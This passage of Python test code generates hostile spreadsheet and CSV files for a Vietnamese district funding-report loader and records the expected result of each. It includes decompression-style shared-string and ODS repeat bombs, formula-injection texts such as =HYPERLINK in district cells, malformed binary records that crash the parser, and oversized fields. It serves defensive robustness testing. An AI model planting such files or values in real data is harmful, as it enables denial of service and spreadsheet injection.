        HostileCase("only_merged_cells", out / "only_merged_cells.xlsx", no_table, "a sheet of merged ranges, no values",
                    make=_workbook(_merged_only)),
    ]


def _template(edit: Callable[[Worksheet], None] | None = None) -> Callable[[Path], object]:
    return lambda path: template_xlsx(path, edit)


def _set(cell: str, value: Any) -> Callable[[Worksheet], None]:
    """An edit that writes value (a number, or text even when it starts with '=') into a cell."""
    return lambda ws: put(ws, cell, value)


def formula_cases(out: Path) -> list[HostileCase]:
    # openpyxl writes formulas without cached values: a reader that does not compute them sees nothing
    return [
        HostileCase("formula_without_value_disbursed", out / "formula_disbursed.xlsx", "ok",
                    "G4 (disbursed, optional) holds the formula =F4*2 and no cached value: only the plan is read, "
                    "and G4 should be flagged", records=1, cell="G4", as_of=AS_OF,
                    make=_template(lambda ws: ws.__setitem__("G4", "=F4*2"))),
        HostileCase("formula_without_value_plan", out / "formula_plan.xlsx", ERROR + "missing_value",
                    "F4 (plan, required) holds the formula =500*2 and no cached value", cell="F4",
                    make=_template(lambda ws: ws.__setitem__("F4", "=500*2"))),
    ]


def _formula_rows(texts: tuple[str, ...]) -> Callable[[Worksheet], None]:
    def edit(ws: Worksheet) -> None:
        for i, text in enumerate(texts):
            for c, value in enumerate(template_texts(), start=1):
                ws.cell(4 + i, c, value)
            put(ws, f"A{4 + i}", text)
    return edit


def formula_text_cases(out: Path) -> list[HostileCase]:
    return [
        HostileCase("formula_text_districts_xlsx", out / "formula_text_districts.xlsx", ERROR + "unknown_district",
                    "district cells A4:A7 are text starting with = + - @", cell="A4",
                    make=_template(_formula_rows(FORMULA_TEXTS))),
        HostileCase("formula_text_districts_csv", out / "formula_text_csv" / f"{FUNDING.name}.csv",
                    ERROR + "unknown_district", "the same texts as districts in a template CSV", cell="A2",
                    make=lambda p: template_csv(p, [template_texts(district=t) for t in FORMULA_TEXTS])),
        HostileCase("formula_text_naming_a_district", out / "formula_text_naming_a_district.xlsx",
                    ERROR + "unknown_district", "district A4 is =HYPERLINK(…) text whose label is a district name",
                    cell="A4", make=_template(_formula_rows((FORMULA_NAMING_DISTRICT,)))),
    ]


NUMBER_TEXTS = (  # name, text in plan F4, expected, weakness
    ("1e308_text", "1e308", ERROR + "bad_number", ""),
    ("overflow_text", "9.99e308", ERROR + "bad_number", ""),
    ("expression_text", "9.99e307*10", ERROR + "bad_number", ""),
    ("nan_text", "NaN", ERROR + "bad_number", ""),
    ("inf_text", "inf", ERROR + "bad_number", ""),
    ("minus_inf_text", "-Infinity", ERROR + "bad_number", ""),  # not finite: not a number at all
    ("1e999_text", "1e999", ERROR + "bad_number", ""),
    ("negative_zero_text", "-0", "ok", ""),
    # read exactly, and then refused: 123 trillion million đồng is no district's plan (loaders/values.implausible)
    ("fifteen_digits_text", "123456789012345", ERROR + "value_too_large", ""),
)
_REPORT_INF = ("BÁO CÁO GIẢI NGÂN VỐN CHƯƠNG TRÌNH NĂM 2017\nTính đến ngày 31/10/2017\nĐơn vị tính: triệu đồng\n"
               "STT,Đơn vị,Kế hoạch vốn,Giải ngân\n1,Huyện Mường Tè,inf,400\n2,Huyện Sìn Hồ,1000,NaN\n")


def number_cases(out: Path) -> list[HostileCase]:
    cases = [
        HostileCase(f"number_{name}", out / f"number_{name}.xlsx", expect, f"plan F4 holds the text {text!r}",
                    cell=None if expect == "ok" else "F4", records=2 if expect == "ok" else None, as_of=AS_OF,
                    weakness=weakness, make=_template(_set("F4", text)))
        for name, text, expect, weakness in NUMBER_TEXTS
    ]
    return cases + [
        HostileCase("number_1e308_cell", out / "number_1e308_cell.xlsx", ERROR + "bad_number",
                    "plan F4 holds the number 1e308", cell="F4", make=_template(_set("F4", 1e308))),
        HostileCase("number_nan_csv", out / "number_nan_csv" / f"{FUNDING.name}.csv", ERROR + "bad_number",
                    "plan 'NaN' and disbursed 'nan' in a template CSV", cell="F2",
                    make=lambda p: template_csv(p, [template_texts(plan="NaN", disbursed="nan")])),
        HostileCase("number_inf_report_csv", out / "report_inf.csv", ERROR + "bad_number",
                    "a hand-made report (not the template) with 'inf' and 'NaN' amounts", cell="C5",
                    make=_write(_REPORT_INF.encode())),
    ]


DATE_TEXTS = (  # name, text in as_of C4, expected
    ("slash", "31/10/2017", "ok"),
    ("dash", "31-10-2017", "ok"),
    ("iso", "2017-10-31", "ok"),
    ("dots", "31.10.2017", "ok"),
    ("iso_time", "2017-10-31T00:00:00", "ok"),
    ("vietnamese_words", "31 tháng 10 năm 2017", ERROR + "bad_date"),
    ("english_month", "Oct 31 2017", ERROR + "bad_date"),
    ("ngay_prefix", "ngày 31/10/2017", ERROR + "bad_date"),
    ("two_digit_year", "31/10/17", ERROR + "bad_date"),
    ("today", "hôm nay", ERROR + "bad_date"),
    ("us_order", "10/31/2017", ERROR + "bad_date"),
    ("serial_as_text", "43039", ERROR + "bad_date"),
)


def date_cases(out: Path) -> list[HostileCase]:
    cases = [
        HostileCase(f"date_{name}", out / f"date_{name}.xlsx", expect, f"as_of C4 holds the text {text!r}", as_of=AS_OF,
                    cell=None if expect == "ok" else "C4", records=2 if expect == "ok" else None,
                    make=_template(_set("C4", text)))
        for name, text, expect in DATE_TEXTS
    ]
    return cases + [HostileCase("date_serial_number", out / "date_serial_number.xlsx", "ok",
                                "as_of C4 holds the number 43039 (an Excel serial, no date format)", as_of=AS_OF,
                                records=2, make=_template(_set("C4", 43039)))]


UNKNOWN_ROWS = 10_000


def _unknown_districts(path: Path) -> None:
    wb = Workbook(write_only=True)
    wb.properties.created = FIXED_TIME
    ws = wb.create_sheet(FUNDING.name)
    ws.append([FUNDING.title])
    ws.append(["Đơn vị tính: triệu đồng"])
    ws.append(HEADERS)
    good = template_texts()
    for i in range(UNKNOWN_ROWS):
        ws.append([f"Xã Không Có Thật số {i:05d}", 2017, AS_OF, good[3], good[4], 1000.0 + i, 400.0])
    save_workbook(wb, path)


def _latin1_csv(path: Path) -> None:
    path.write_bytes(",".join(HEADERS).encode() + b"\r\nHuy\xean S\xecn H\xf4,2017,31/10/2017,1.1,NSTW,1000,400\r\n")


def _long_line(unit: bytes, megabytes: int = 50) -> Callable[[Path], object]:
    def make(path: Path) -> None:
        block = unit * ((1 << 20) // len(unit))
        with open(path, "wb") as fh:
            fh.write(b"Huyen,")
            for _ in range(megabytes):
                fh.write(block)
            fh.write(b"\n")
    return make


def volume_and_text_cases(out: Path) -> list[HostileCase]:
    unreadable = ERROR + "unreadable_file"
    csv_path = f"{FUNDING.name}.csv"
    return [
        HostileCase("unknown_districts_10000", out / "unknown_districts_10000.xlsx", ERROR + "unknown_district",
                    f"{UNKNOWN_ROWS:,} template rows whose districts do not exist", cell="A4", max_seconds=20,
                    make=_unknown_districts),
        HostileCase("csv_utf16", out / "csv_utf16" / csv_path, "ok",
                    "a template CSV saved as UTF-16 with a BOM: read, with a warning csv_encoding", records=2,
                    as_of=AS_OF, make=lambda p: template_csv(p, [template_texts()], "utf-16")),
        HostileCase("csv_cp1258", out / "csv_cp1258" / csv_path, "ok",
                    "a template CSV in Windows-1258 bytes (tones as combining marks): read as Sìn Hồ, warning "
                    "csv_encoding", records=2, as_of=AS_OF,
                    make=lambda p: template_csv(p, [template_texts(district="Huyện Sìn Hồ")], "cp1258")),
        HostileCase("csv_latin1", out / "csv_latin1" / csv_path, unreadable,
                    "a UTF-8 header over a row whose district is Latin-1 bytes: damaged UTF-8, refused",
                    make=_latin1_csv),
        HostileCase("csv_nul_byte", out / "csv_nul" / csv_path, "ok",
                    "a NUL byte inside a district name: read as Mường Tè, with a fuzzy_district warning at A2",
                    records=2, cell="A2", as_of=AS_OF,
                    make=lambda p: template_csv(p, [template_texts(district="Huyện Mường\x00 Tè")])),
        HostileCase("csv_50mb_field", out / "csv_50mb_field.csv", unreadable, "one line holding one 50 MB field",
                    make=_long_line(b"x")),
        HostileCase("csv_50mb_fields", out / "csv_50mb_fields.csv", unreadable,
                    "one 50 MB line of 17 million two-digit fields", make=_long_line(b"12,")),
    ]


def text_bomb_cases(out: Path) -> list[HostileCase]:
    unreadable = ERROR + "unreadable_file"
    return [
        HostileCase("shared_string_100mb_x1000", out / "shared_string_100mb_x1000.xlsx", unreadable,
                    "106 KB: one shared string of 100 MB in 1,000 cells; calamine copies it into each (100 GB)",
                    max_seconds=30, isolated=True, make=lambda p: shared_string_bomb(p, 100, 1000)),
        HostileCase("shared_string_10mb_x200", out / "shared_string_10mb_x200.xlsx", unreadable,
                    "12.5 KB: one shared string of 10 MB in 200 cells (4.1 GB and 16 s in the server before)",
                    max_seconds=30, isolated=True, make=lambda p: shared_string_bomb(p, 10, 200)),
        HostileCase("inline_string_40k", out / "inline_string_40k.xlsx", unreadable,
                    "one inline string of 40,000 characters, more than Excel's 32,767 in a cell",
                    make=_one_sheet(b'<row r="1">' + inline("A1", "x" * 40_000) + b"</row>")),
        HostileCase("text_60m_characters", out / "text_60m_characters.xlsx", unreadable,
                    "2,000 cells referring to one shared string of 30,000 characters: 60 million in all",
                    max_seconds=30, make=lambda p: shared_string_cells(p, b"y" * 30_000, 2_000)),
        HostileCase("rich_text_long_markup", out / "rich_text_long_markup.xlsx", ERROR + "no_table",
                    "a shared string of 30,000 characters in 3,000 bold runs (170 KB of XML): read, not refused",
                    make=lambda p: rich_text_string(p, 3_000)),
    ]


def _many_sheets(path: Path) -> None:
    wb = build_workbook(funding=[ROW])
    for i in range(300):
        wb.create_sheet(f"Ghi chú {i:03d}").append([f"Ghi chú số {i}", i])
    save_workbook(wb, path)


def _state(state: str) -> Callable[[Worksheet], None]:
    def edit(ws: Worksheet) -> None:
        ws.sheet_state = state
    return edit


def sheet_cases(out: Path) -> list[HostileCase]:
    return [
        HostileCase("sheets_300", out / "sheets_300.xlsx", "ok", "a template with 300 extra note sheets",
                    records=2, as_of=AS_OF, make=_many_sheets),
        HostileCase("hidden_data_sheet", out / "hidden_data_sheet.xlsx", "ok",
                    "the funding sheet is hidden: not read (issue 12), a warning hidden_sheet_ignored says so",
                    records=0, make=_template(_state("hidden"))),
        HostileCase("very_hidden_data_sheet", out / "very_hidden_data_sheet.xlsx", "ok",
                    "the funding sheet is veryHidden (only VBA can show it): not read either", records=0,
                    make=_template(_state("veryHidden"))),
    ]


def _ods_template(path: Path) -> None:
    grid = template_grid()
    rows = [grid[0], grid[1], grid[2], [*grid[3][:2], AS_OF, *grid[3][3:]]]
    ods(path, {FUNDING.name: b"".join(_ods_row(row) for row in rows)})


def _ods_repeats(rows: int, columns: int) -> Callable[[Path], object]:
    return lambda path: ods(path, {"Sheet1": (
        b'<table:table-row table:number-rows-repeated="%d"><table:table-cell table:number-columns-repeated="%d" '
        b'office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
        % (rows, columns))})


def _xlsb_cells(*cells: bytes) -> Callable[[Path], object]:
    return lambda path: xlsb(path, "Sheet1", [["a"]], cells=list(cells))


def _row_header(row: int) -> bytes:
    return _record(0x00, struct.pack("<IIHBBB", row, 0, 300, 0, 0, 0))


def format_cases(out: Path) -> list[HostileCase]:
    unreadable = ERROR + "unreadable_file"
    return [
        HostileCase("vietnamese_file_name", out / "Báo cáo giải ngân – huyện Mường Tè (bản 2).xlsx", "ok",
                    "a template named with Vietnamese letters, spaces, a dash and brackets", records=2, as_of=AS_OF,
                    make=_template()),
        HostileCase("uppercase_suffix", out / "BAO_CAO_2017.XLSX", "ok", "a template named .XLSX", records=2,
                    as_of=AS_OF, make=_template()),
        HostileCase("ods_template", out / "template.ods", "ok", "the template's funding sheet as an .ods", records=2,
                    as_of=AS_OF, make=_ods_template),
        HostileCase("ods_repeat_bomb", out / "repeat_bomb.ods", unreadable,
                    "an .ods row of 16,384 cells repeated 1,048,575 times, in 700 bytes: calamine's own limit",
                    make=_ods_repeats(1_048_575, 16_384)),
        HostileCase("xlsb_template", out / "template.xlsb", "ok", "the template's funding sheet as a minimal .xlsb",
                    records=2, as_of=AS_OF, make=lambda p: xlsb(p, FUNDING.name, template_grid())),
        HostileCase("xlsb_short_record", out / "short_record.xlsb", ERROR + "no_table",
                    "an .xlsb whose number record is 9 bytes long instead of 16 (read as a tiny number)",
                    make=_xlsb_cells(_row_header(1), _record(0x05, b"\0" * 9))),
        HostileCase("xlsb_bad_string_index", out / "bad_string_index.xlsb", unreadable,
                    "an .xlsb cell pointing at shared string 5 of none: calamine panics (PanicException)",
                    make=_xlsb_cells(_row_header(1), _record(0x07, struct.pack("<III", 0, 0, 5)))),
        HostileCase("xlsb_far_column", out / "far_column.xlsb", unreadable,
                    "an .xlsb with A1 and a cell in column 1,048,576 of row 1,001", isolated=True,
                    make=_xlsb_cells(_row_header(1000), _record(0x05, struct.pack("<IId", 0xFFFFF, 0, 1.0)))),
        HostileCase("xls_far_cell", out / "far_cell.xls", unreadable,
                    "an .xls (BIFF8) with A1 and a NUMBER at row 65,536, column 65,536", isolated=True,
                    make=lambda p: xls(p, [(0, 0, 1.0), (65535, 65535, 2.0)])),
        HostileCase("ods_repeat_20m", out / "repeat_20m.ods", unreadable,
                    "an .ods row of 10,000 repeated cells repeated 2,000 times: 20 million cells in 600 bytes",
                    isolated=True,
                    make=_ods_repeats(2_000, 10_000)),
    ]


GROUPS: tuple[Callable[[Path], list[HostileCase]], ...] = (
    bomb_and_dimension_cases, text_bomb_cases, entity_cases, disguised_cases, encrypted_cases, empty_cases, formula_cases,
    formula_text_cases, number_cases, date_cases, volume_and_text_cases, sheet_cases, format_cases,
)


def plan(out: Path) -> list[HostileCase]:
    """Every case, with its file's path under out; nothing is written."""
    cases = [case for group in GROUPS for case in group(out)]
    names = [c.name for c in cases]
    assert len(set(names)) == len(names), "case names must be unique"
    return cases


def build(cases: Iterable[HostileCase]) -> list[HostileCase]:
    """Write the cases' files; the cases, for chaining."""
    cases = list(cases)
    for case in cases:
        case.path.parent.mkdir(parents=True, exist_ok=True)
        case.make(case.path)
    return cases


def build_all(out: Path, names: Iterable[str] | None = None) -> list[HostileCase]:
    """Write the corpus (or the named cases of it) into out; its cases."""
    wanted = set(names) if names is not None else None
    return build(c for c in plan(out) if wanted is None or c.name in wanted)


def large_template(path: Path, rows: int) -> int:
    """A template workbook (loaders.template.build_workbook) with ``rows`` funding rows, all keys distinct."""
    comps = [c for c, comp in leaf_components().items() if comp.applies_lai_chau]
    out: list[dict[str, Any]] = []
    day = dt.date(2017, 1, 1)
    while len(out) < rows:
        for d in districts():
            for c in comps:
                for s in leaf_sources():
                    out.append(dict(district_code=d, year=day.year, as_of=day, component=c, source=s,
                                    plan=1000.0, disbursed=float(day.timetuple().tm_yday)))
        day += dt.timedelta(days=1)
    del out[rows:]
    build_workbook(funding=out).save(path)
    return len(out)
